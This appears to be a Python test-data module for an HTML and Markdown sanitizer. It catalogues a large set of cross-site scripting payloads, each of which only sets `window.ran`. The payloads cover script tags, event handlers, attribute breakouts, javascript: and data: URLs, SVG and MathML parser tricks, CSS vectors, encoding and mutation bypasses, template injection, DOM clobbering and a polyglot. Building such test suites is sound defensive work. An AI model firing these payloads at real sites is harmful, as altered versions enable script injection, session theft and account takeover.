"""Texts that try to be programs, by the way in which they try it. Every one sets `window.ran`."""

from __future__ import annotations

RUN = "window.ran=1"

TAGS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script type=module>{RUN}</script>",
    f"<script\x09>{RUN}</script>",
    f"<script/x>{RUN}</script>",
    f"<script\x0c>{RUN}</script >",
    f"<<script>{RUN}//<</script>",
    f"<script>{RUN}",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script>/*`*/{RUN}/*`*/</script>",
    "<link rel=stylesheet href=//127.0.0.1/x>",
    f"<link rel=import href='data:text/html,<script>{RUN}</script>'>",
    f"<link rel=modulepreload href='data:text/javascript,{RUN}'>",
    "<meta http-equiv=refresh content=0;url=about:blank>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    f"<base href=javascript:{RUN}//>",
    "<base href=//127.0.0.1/>",
    f"<object data=javascript:{RUN}>",
    f"<object data='data:text/html,<script>parent.{RUN}</script>'></object>",
    f"<embed src=javascript:{RUN}>",
    f"<applet code=javascript:{RUN}></applet>",
    f"<frameset onload={RUN}><frame></frameset>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<iframe onload={RUN}></iframe>",
    f"<iframe src='data:text/html,<script>parent.{RUN}</script>'></iframe>",
    f"<portal src=javascript:{RUN}></portal>",
    f"<fencedframe src=javascript:{RUN}></fencedframe>",
    f"<form action=javascript:{RUN}><button>",
    f"<form><button formaction=javascript:{RUN}>x",
    f"<form id=x></form><button form=x formaction=javascript:{RUN}>x</button>",
    f"<isindex action=javascript:{RUN} type=submit>",
    f"<template><script>{RUN}</script></template>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<xmp><img src=x onerror={RUN}></xmp>",
    f"<listing><img src=x onerror={RUN}></listing>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<x-any onclick={RUN}>x</x-any>",
)
"""Elements that are programs, or that load some."""

_FIRES = (
    ("img src=x", "error"),
    ("img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=", "load"),
    ("image src=x", "error"),
    ("svg", "load"),
    ("body", "load"),
    ("body", "pageshow"),
    ("body", "hashchange"),
    ("details open", "toggle"),
    ("video src=x", "error"),
    ("video><source", "error"),
    ("audio src=x", "error"),
    ("audio autoplay src=x", "loadstart"),
    ("input autofocus", "focus"),
    ("input autofocus", "focusin"),
    ("select autofocus", "focus"),
    ("textarea autofocus", "focus"),
    ("button autofocus", "focus"),
    ("a href=# autofocus", "focus"),
    ("p tabindex=0 autofocus", "focus"),
    ("p contenteditable autofocus", "beforeinput"),
    ("marquee", "start"),
    ("marquee loop=1", "finish"),
    ("marquee", "bounce"),
    ("style", "load"),
    ("link rel=stylesheet href=x", "error"),
    ("object data=x", "error"),
    ("embed src=x", "load"),
    ("iframe src=about:blank", "load"),
    ("track src=x", "error"),
    ("dialog open", "close"),
    ("p popover", "beforetoggle"),
    ("p style=animation:x", "animationstart"),
    ("p style=transition:all", "transitionend"),
    ("p", "pointerover"),
    ("p", "mouseenter"),
    ("p", "wheel"),
    ("p", "copy"),
    ("p draggable=true", "dragstart"),
    ("p", "contextmenu"),
    ("p", "scrollend"),
)
HANDLERS = tuple(f"<{tag} on{event}={RUN}>" for tag, event in _FIRES)
"""Attributes that hear events."""

QUOTED = tuple(
    made
    for quote in ('"', "'", "`", "", " ")
    for made in (
        f"{quote}><script>{RUN}</script>",
        f"{quote}><img src=x onerror={RUN}>",
        f"{quote} onmouseover={RUN} x={quote}",
        f"{quote} autofocus onfocus={RUN} x={quote}",
        f"{quote};{RUN};//",
    )
)
"""Out of an attribute, or of a string of a script."""

_PLACES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\u00adscript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript&#x3a;{RUN}",
    f"javascript://127.0.0.1/%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"vbscript:{RUN}",
    f"view-source:javascript:{RUN}",
    f"feed:javascript:{RUN}",
    f"blob:javascript:{RUN}",
    f"filesystem:javascript:{RUN}",
    f"//javascript:{RUN}",
)
ADDRESSES = tuple(f"<a href='{place}'>click</a>" for place in _PLACES) + tuple(
    f"[click]({place.replace(' ', '%20')})" for place in _PLACES
)
"""Addresses that are programs, as HTML has them and as Markdown has them."""

FOREIGN = (
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} /></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributeName=x>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg></p><style><g title='</style><img src=x onerror={RUN}>'>",
    f"<svg><image href=x onerror={RUN}></svg>",
    f"<svg><title><img src=x onerror={RUN}></title></svg>",
    f"<svg><desc><iframe onload={RUN}></desc></svg>",
    f"<math><mtext></p><script>{RUN}</script>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math href=javascript:{RUN}>click</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>click</maction></math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<?xml-stylesheet href='javascript:{RUN}'?>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<!DOCTYPE x [<!ENTITY e '<script>{RUN}</script>'>]>&e;",
)
"""SVG, MathML, XML: other rules, and ways back to those of HTML."""

STYLES = (
    f"<style>@import 'javascript:{RUN}'</style>",
    f"<style>*{{background:url(javascript:{RUN})}}</style>",
    f"<p style='background:url(javascript:{RUN})'>x</p>",
    f"<p style='width:expression({RUN})'>x</p>",
    f"<p style='behavior:url(#default#{RUN})'>x</p>",
    f"<p style='-moz-binding:url(data:,{RUN})'>x</p>",
    "<p style='position:fixed;inset:0;z-index:99999;background:red'>over all</p>",
    "<style>body{display:none}</style>",
)
"""Style sheets."""

CHANGED = (
    f"<!--><script>{RUN}</script>-->",
    f"<!--!><img src=x onerror={RUN}>-->",
    f"<!-- --!><img src=x onerror={RUN}> -->",
    f"<p id='</textarea><img src=x onerror={RUN}>'>",
    f"<textarea></textarea><img src=x onerror={RUN}></textarea>",
    f"<title></title><img src=x onerror={RUN}></title>",
    f"<table><td><img src=x onerror={RUN}></td></table>",
    f"<select><template><img src=x onerror={RUN}></template></select>",
    f"<option><style></option></select><img src=x onerror={RUN}></style>",
    f"<a><a><img src=x onerror={RUN}>",
    f"<p><p><p><p><p><p><p><p><img src=x onerror={RUN}>",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "&amp;lt;script&amp;gt;window.ran=1&amp;lt;/script&amp;gt;",
    "&#60;script&#62;window.ran=1&#60;/script&#62;",
    "&#x3c;img src=x onerror=window.ran=1&#x3e;",
    "%3Cscript%3Ewindow.ran=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=window.ran=1\\x3e",
    "\uff1cscript\uff1ewindow.ran=1\uff1c/script\uff1e",
    "\u2039script\u203awindow.ran=1\u2039/script\u203a",
    f"<\u017fcript>{RUN}</\u017fcript>",
    f"<\u212amg src=x onerror={RUN}>",
    f"<img\u3000src=x\u3000onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror\u00a0={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f"<img src='x' onerror='{RUN}' <p>",
    f'<img """><script>{RUN}</script>">',
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
)
"""What becomes a program when it is parsed, decoded, folded or written once more."""

TEMPLATES = (
    f"`${{{RUN}}}`",
    f"${{{RUN}}}",
    f"#{{{RUN}}}",
    f"<%= {RUN} %>",
    f"<?php echo '{RUN}'; ?>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"{{{{7*7}}}}{{%{RUN}%}}",
    f"{{@html '<img src=x onerror={RUN}>'}}",
    f"<p v-html='{RUN}' x-data='{RUN}' ng-init='{RUN}' hx-on:load='{RUN}'>x</p>",
    "<p data-type=code data-block-id=x>block</p>",
    f"<p data-pm-slice='1 1 []' onclick={RUN}>x</p>",
    "__proto__[ran]=1",
    "constructor.prototype.ran=1",
    "<form id=app><input name=attributes><input name=innerHTML></form>",
    "<img name=getElementById><img name=cookie><a id=ran href=x>x</a>",
    f"![image](x onerror={RUN})",
    f'![a"onerror="{RUN}](x)',
    f"<javascript:{RUN}>",
    f"[x]: javascript:{RUN}",
    f"[click](<javascript:{RUN}>)",
    f"[a](x 'onmouseover={RUN}')",
    f"```html\n<script>{RUN}</script>\n```".replace("\n", " "),
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN} )//%0D%0A</stYle/</titLe/</scRipt/"
    f"--!>\\x3csVg/<sVg/oNloAd={RUN}//>\\x3e",
)
"""Languages of templates, Markdown, names that the page might look up, and all at once."""

PAYLOADS = (
    *TAGS,
    *HANDLERS,
    *QUOTED,
    *ADDRESSES,
    *FOREIGN,
    *STYLES,
    *CHANGED,
    *TEMPLATES,
)
